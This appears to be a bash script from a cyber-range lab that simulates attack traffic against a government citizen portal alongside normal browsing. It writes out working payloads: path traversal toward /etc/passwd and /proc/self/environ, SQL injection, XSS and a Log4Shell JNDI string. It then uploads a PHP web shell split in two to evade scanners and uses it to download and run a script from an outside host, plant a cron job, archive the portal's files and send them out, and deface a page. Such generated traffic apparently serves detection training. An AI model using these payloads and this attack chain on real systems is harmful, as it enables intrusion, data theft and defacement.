# portal-web-01: citizens use the portal while it is scanned, read through a path traversal, and taken over by an upload.

portal=http://10.20.2.20
portal6='http://[2001:db8:20::20]'
browsers=(
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
  "Mozilla/5.0 (Linux; Android 14; SM-A155F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36"
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
  "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
)
citizens=(192.0.2.11 192.0.2.34 192.0.2.57 192.0.2.91 192.0.2.140 2001:db8:100::11 2001:db8:100::2c)

# visit NUMBER PATH...: one person's clicks, a second or so apart.
visit() {
  local number=$1 address=${citizens[$(($1 % ${#citizens[@]}))]} agent=${browsers[$(($1 % ${#browsers[@]}))]} site=$portal path referer
  shift
  if [[ $address == *:* ]]; then site=$portal6; fi
  referer=-
  for path in "$@"; do
    on public curl -s -o /dev/null --interface "$address" -A "$agent" -e "$referer" "$site$path" || true
    referer="http://portal.example.vn$path"
    sleep 0.7
  done
}

submit() { # submit NUMBER FILENAME: a citizen hands in a file
  local address=${citizens[$(($1 % ${#citizens[@]}))]} site=$portal
  if [[ $address == *:* ]]; then site=$portal6; fi
  on public sh -c "echo 'Don xin cap lai' | curl -s -o /dev/null --interface $address -A '${browsers[1]}' -e http://portal.example.vn/nop-ho-so.php -F 'tep=@-;filename=$2' $site/nop-ho-so.php" || true
}

portal_citizens() {
  visit 0 / "/tra-cuu.php?ma=2026-$RANDOM" "/tai-ve.php?tep=mau-01.txt"
  visit 1 / /favicon.ico /nop-ho-so.php
  submit 1 don-xin-cap-lai.pdf
  visit 5 / "/tra-cuu.php?ma=h%E1%BB%93%20s%C6%A1%20s%E1%BB%91%20214" /gioi-thieu.html
  visit 6 / "/tai-ve.php?tep=mau-02.txt" "/tai-ve.php?tep=danh-sach.txt"
  visit 3 /robots.txt / "/tra-cuu.php?ma=2026-$RANDOM&trang=2"
}

from_scanner() { on scanner curl -s -o /dev/null -A "$1" --path-as-is "$portal$2" || true; sleep 0.5; }

portal_scan() {
  on scanner gobuster dir -q -t 3 --delay 60ms -u "$portal" -w /srv/paths.txt </dev/null >/dev/null 2>&1 || true
}

portal_traversal() {
  local agent="python-requests/2.32.3"
  from_scanner "$agent" "/tai-ve.php?tep=../../../../etc/passwd"
  from_scanner "$agent" "/tai-ve.php?tep=..%2f..%2f..%2f..%2fetc%2fhosts"
  from_scanner "$agent" "/tai-ve.php?tep=%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ"
  from_scanner "$agent" "/static/..%2f..%2f..%2f..%2fetc/passwd"
  from_scanner "$agent" "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"
  from_scanner "$agent" "/../../../../etc/passwd"
  from_scanner "$agent" "/tra-cuu.php?ma=1%27%20UNION%20SELECT%201,username,password%20FROM%20users--%20-"
  from_scanner "$agent" "/tra-cuu.php?ma=%3Cscript%3Ealert(1)%3C/script%3E"
  from_scanner 'x: ${jndi:ldap://198.51.100.23:1389/a}' "/"
}

# The shell is one line that runs what it is told; it is written here in two halves so that no scanner takes this script for it.
portal_shell() {
  local half='<?php echo shell_' agent="python-requests/2.32.3" command
  on scanner sh -c "printf '%s%s' '$half' 'exec(\$_REQUEST[\"c\"]);' | curl -s -o /dev/null -A '$agent' -F 'tep=@-;filename=anh-the.php' $portal/nop-ho-so.php"
  sleep 2
  for command in id 'uname -a' 'cat /etc/passwd' 'ls -la /var/www/portal/files' \
      'wget -q http://203.0.113.66:8080/u.sh -O /tmp/u.sh' 'chmod 755 /tmp/u.sh' '/tmp/u.sh' \
      '(crontab -l; echo "* * * * * /tmp/u.sh") | crontab -' \
      'tar czf /tmp/hs.tgz -C /var/www/portal files' 'curl -s -T /tmp/hs.tgz http://203.0.113.66:8080/hs.tgz'; do
    on scanner curl -s -o /dev/null -A "$agent" -G --data-urlencode "c=$command" "$portal/uploads/anh-the.php" || true
    sleep 1.5
  done
  on scanner curl -s -o /dev/null -A "$agent" --data-urlencode 'c=echo "<h1>thay doi giao dien</h1>" > /var/www/portal/thong-bao.html; rm -f /tmp/hs.tgz' "$portal/uploads/anh-the.php" || true
}

play_portal() {
  start_daemons portal-web-01 'php-fpm8.2 --daemonize' nginx
  portal_citizens
  portal_scan & local scan=$!
  portal_citizens
  wait "$scan"
  portal_traversal
  portal_citizens
  portal_shell
  portal_citizens
  sleep 61 # cron runs what was planted
  stop_daemons portal-web-01
}
